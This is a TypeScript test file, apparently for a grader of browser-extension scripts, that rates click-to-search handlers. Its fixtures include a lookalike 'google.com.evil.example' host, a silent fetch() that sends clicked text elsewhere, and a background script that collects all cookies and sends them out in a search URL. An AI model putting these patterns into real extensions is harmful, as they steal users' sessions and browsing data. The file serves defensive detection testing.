import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* A click on a title looks it up in a page that opens; what goes elsewhere, pays a partner or is a session is told. */
const clicked = (opens: string): string =>
  `document.body.addEventListener('click', (event) => { const text = event.target.parentElement.textContent; ${opens} });`;

it.each([
  ["window.open('https://www.google.com/search?udm=14&q=' + encodeURIComponent(text));"],
  ["window.open(`https://duckduckgo.com/?q=${encodeURIComponent(document.title + ' ' + text)}`);"],
])('a page that shows what a search finds: %s', async (opens) => {
  expect(await graded({ content: clicked(opens) })).toMatch(/^A/);
});

it.each([
  ["window.open('https://find.example/search?q=' + encodeURIComponent(text));"],
  ["window.open('https://www.google.com/search?client=pub-123&q=' + encodeURIComponent(text));"],
  ["window.open('https://www.google.com.evil.example/search?q=' + encodeURIComponent(text));"],
  ["fetch('https://find.example/search?q=' + encodeURIComponent(text));"],
])('another page, a partner, or nothing that is seen: %s', async (opens) => {
  expect(await graded({ content: clicked(opens) })).not.toMatch(/^[AB]/);
});

it('a session in what is searched for', async () => {
  const background =
    "chrome.alarms.onAlarm.addListener(async () => { const all = await chrome.cookies.getAll({}); chrome.tabs.create({ url: 'https://www.google.com/search?q=' + JSON.stringify(all) }); });";
  expect(await graded({ background })).toMatch(/^[DF]$/);
});
